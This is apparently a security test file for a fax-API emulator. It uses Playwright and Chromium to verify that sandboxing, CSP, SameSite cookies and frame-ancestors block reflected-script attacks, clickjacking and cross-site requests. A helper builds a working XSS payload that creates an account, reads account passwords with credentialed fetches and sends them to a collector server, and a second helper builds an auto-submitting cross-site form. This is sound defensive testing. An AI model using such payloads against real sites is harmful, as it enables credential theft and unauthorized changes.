"""A hostile page in a real browser (Debian chromium, Playwright) cannot reach the control plane
through the emulator's protocol answers, nor frame the dashboard (docs/security.md).

The hostile page is served by its own server on ANOTHER port of 127.0.0.1 (the same site as
the emulator, not the same origin), which also collects whatever a successful attack sends
back. Every wait is on something the browser reports (a console message, a URL, a collector
hit), never a fixed time.
"""

from __future__ import annotations

import html
import json
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qsl

import pytest
from playwright.sync_api import (
    Browser,
    BrowserContext,
    ConsoleMessage,
    Page,
    Playwright,
    expect,
    sync_playwright,
)

from .dashboard import CHROMIUM, CHROMIUM_ARGS, CHROMIUM_MISSING, Emulator, chromium_present

pytestmark = pytest.mark.skipif(not chromium_present(), reason=CHROMIUM_MISSING)

TOKEN = "t0ken-for-the-dashboard"
DEADLINE_MS = 30_000


class HostileSite:
    """Serves the attack pages (`/page/<name>`) and collects what comes back (`/collect`);
    `/echo` reflects a POSTed field as HTML with no protection at all: the control that
    shows the same payload does run in this browser when nothing stops it."""

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.collected: list[dict[str, str]] = []
        self.arrived = threading.Condition()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                path, _, query = self.path.partition("?")
                if path.startswith("/page/") and path[6:] in site.pages:
                    self._answer(200, site.pages[path[6:]].encode(), "text/html")
                    return
                if path == "/collect":
                    with site.arrived:
                        site.collected.append({**dict(parse_qsl(query)),
                                               "cookie": self.headers.get("cookie", "")})
                        site.arrived.notify_all()
                self._answer(204, b"", "text/plain")

            def do_POST(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                fields = dict(parse_qsl(self.rfile.read(length).decode()))
                self._answer(200, fields.get("note", "").encode(), "text/html")

            def _answer(self, status: int, body: bytes, kind: str) -> None:
                self.send_response(status)
                self.send_header("content-type", kind)
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> HostileSite:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()

    def wait_for(self, label: str, timeout: float = DEADLINE_MS / 1000) -> dict[str, str]:
        with self.arrived:
            found = self.arrived.wait_for(
                lambda: next((c for c in self.collected if c.get("from") == label), None),
                timeout)
        assert found, f"the collector never heard from {label!r}: {self.collected}"
        return next(c for c in self.collected if c.get("from") == label)


def payload(emulator: Emulator, hostile: HostileSite, label: str) -> str:
    """What an attacker posts as a form field: a script that reads the accounts with their
    passwords, creates an account, adds a fault and sends what it read to the collector."""
    control = emulator.url + "/_sim"
    script = f"""
      const send = (what) => {{ location = "{hostile.url}/collect?from={label}&d=" +
                                encodeURIComponent(what); }};
      const json = {{"Content-Type": "application/json"}};
      fetch("{control}/accounts", {{method: "POST", credentials: "include", headers: json,
                                    body: JSON.stringify({{company: "6666"}})}}).catch(() => 0);
      fetch("{control}/faults", {{method: "POST", credentials: "include", headers: json,
                                  body: JSON.stringify({{fault: {{error: "ERR01"}}}})}})
        .catch(() => 0);
      fetch("{control}/accounts?show_passwords=1", {{credentials: "include"}})
        .then((r) => r.text()).then(send, (e) => send("failed " + e));
    """
    return f"<script>{script}</script>"


def auto_post(action: str, fields: dict[str, str]) -> str:
    inputs = "".join(f'<textarea name="{html.escape(k)}">{html.escape(v)}</textarea>'
                     for k, v in fields.items())
    return (f'<form id="f" method="post" action="{html.escape(action)}">{inputs}</form>'
            '<script>document.getElementById("f").submit()</script>')


@pytest.fixture(scope="module")
def playwright() -> Iterator[Playwright]:
    with sync_playwright() as running:  # module scope: see tests/test_dashboard_browser.py
        yield running


@pytest.fixture(scope="module")
def browser(playwright: Playwright) -> Iterator[Browser]:
    launched = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
    yield launched
    launched.close()


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    opened = browser.new_context()
    yield opened
    opened.close()


@pytest.fixture
def hostile() -> Iterator[HostileSite]:
    with HostileSite() as site:
        yield site


def until(page: Page, condition: Callable[[], bool], shown: object) -> None:
    """Poll what the browser reported until `condition` holds (a generous deadline)."""
    deadline = time.monotonic() + DEADLINE_MS / 1000
    while not condition():
        assert time.monotonic() < deadline, shown
        page.wait_for_timeout(50)


def state_seen(emulator: Emulator, token: str | None) -> Any:
    headers = {"x-faxage-sim-token": token} if token else {}
    return [emulator.http.get(path, headers=headers).json() for path in (
        "/_sim/accounts?show_passwords=1", "/_sim/faults")]


def console_of(page: Page) -> list[str]:
    said: list[str] = []

    def keep(message: ConsoleMessage) -> None:
        said.append(message.text)

    page.on("console", keep)
    return said


@pytest.mark.parametrize("token", [None, TOKEN], ids=["no-token", "control-token"])
@pytest.mark.parametrize("target", ["debug-url", "err08"])
def test_a_script_posted_to_a_protocol_url_does_not_run_nor_reach_the_control_plane(
        context: BrowserContext, hostile: HostileSite, token: str | None,
        target: str) -> None:
    with Emulator(control_token=token) as emulator:
        before = state_seen(emulator, token)
        page = context.new_page()
        if token is not None:  # the person opened the dashboard with its token: a cookie
            page.goto(f"{emulator.dashboard}?token={token}")
            expect(page.locator("#live-state")).to_have_text("live")
            assert [c["name"] for c in context.cookies()] == ["faxage_sim_token"]
        path, operation = {"debug-url": ("/httpsfax-debug.php", "status"),
                           "err08": ("/httpsfax.php", "frobnicate")}[target]
        fields = {"username": "demo", "company": "1000", "password": "demo",
                  "operation": operation, "note": payload(emulator, hostile, target)}
        hostile.pages["attack"] = auto_post(emulator.url + path, fields)
        said = console_of(page)
        page.goto(hostile.url + "/page/attack")
        page.wait_for_url(emulator.url + path)
        # FAXAGE's body, unchanged: the script is in it, as text the browser does not run.
        assert fields["note"] in emulator.http.post(path, data=fields).text
        expect(page.locator("body")).to_contain_text("[operation] => " + operation)
        # Either the browser says it blocked the script, or the script reported home.
        until(page, lambda: any("Blocked script execution" in s for s in said)
              or any(c.get("from") == target for c in hostile.collected), said)

        # The control: the very same form field, reflected by a page with no protection,
        # does run here and does report (cross-origin, so it reads nothing of the emulator).
        hostile.pages["control"] = auto_post(hostile.url + "/echo", {
            "note": payload(emulator, hostile, "control")})
        page.goto(hostile.url + "/page/control")
        assert hostile.wait_for("control")["d"].startswith("failed")

        assert [c for c in hostile.collected if c.get("from") != "control"] == []
        assert state_seen(emulator, token) == before
        assert any("Blocked script execution" in s and "sandboxed" in s for s in said), said


@pytest.mark.parametrize("token", [None, TOKEN], ids=["no-token", "control-token"])
def test_a_link_in_a_sandboxed_answer_is_a_cross_site_request_the_guard_refuses(
        context: BrowserContext, hostile: HostileSite, token: str | None) -> None:
    """A sandboxed answer has an opaque origin: even a click on a link in it reaches the
    control plane as cross-site, without the dashboard's SameSite cookie."""
    with Emulator(control_token=token) as emulator:
        page = context.new_page()
        if token is not None:
            page.goto(f"{emulator.dashboard}?token={token}")
            expect(page.locator("#live-state")).to_have_text("live")
        link = f'<a id="go" href="{emulator.url}/_sim/accounts?show_passwords=1">accounts</a>'
        hostile.pages["attack"] = auto_post(emulator.url + "/httpsfax-debug.php", {
            "username": "demo", "company": "1000", "password": "demo",
            "operation": "status", "note": link})
        page.goto(hostile.url + "/page/attack")
        page.wait_for_url(emulator.url + "/httpsfax-debug.php")
        page.locator("#go").click()
        page.wait_for_url(f"{emulator.url}/_sim/accounts?show_passwords=1")
        refusal = json.loads(page.locator("body").inner_text())
        assert "Sec-Fetch-Site: cross-site" in refusal["error"]
        assert "demo" not in page.content()


def test_the_dashboard_cannot_be_framed_by_another_page(
        context: BrowserContext, hostile: HostileSite) -> None:
    with Emulator() as emulator:
        page = context.new_page()
        said = console_of(page)
        hostile.pages["frame"] = (
            f'<iframe id="victim" src="{emulator.dashboard}" style="opacity:0.01"></iframe>')
        page.goto(hostile.url + "/page/frame")
        until(page, lambda: any("frame-ancestors 'none'" in s for s in said), said)
        victim = next(f for f in page.frames if f is not page.main_frame)
        assert victim.locator("#live-state").count() == 0  # nothing of the dashboard in it
        assert not victim.url.startswith(emulator.url), victim.url


def test_the_dashboard_runs_under_its_strict_policy_with_its_token_cookie(
        context: BrowserContext) -> None:
    """The CSP and the cookie rules leave the dashboard whole: live stream, actions."""
    with Emulator(control_token=TOKEN) as emulator:
        page = context.new_page()
        said = console_of(page)
        page.goto(f"{emulator.dashboard}?token={TOKEN}")
        expect(page.locator("#live-state")).to_have_text("live")
        page.get_by_role("button", name="+5 min").click()
        expect(page.locator("#flash")).to_contain_text("done")
        jobid = emulator.sendfax()
        emulator.http.post("/_sim/clock/run-until-idle", json={},
                           headers={"x-faxage-sim-token": TOKEN})
        for where in ("jobs", "inbound", "journal", f"jobs/{jobid}"):
            page.goto(emulator.dashboard + where)
            expect(page.locator("#live-state")).to_have_text("live")
        # The page images load (img-src 'self'), with the cookie.
        page.wait_for_function("() => { const i = document.querySelector('img.thumb');"
                               " return i !== null && i.complete && i.naturalWidth > 0; }")
        assert not [s for s in said if "Content Security Policy" in s], said
        answer = page.request.get(emulator.url + "/_sim/health")
        assert answer.headers["x-frame-options"] == "DENY"
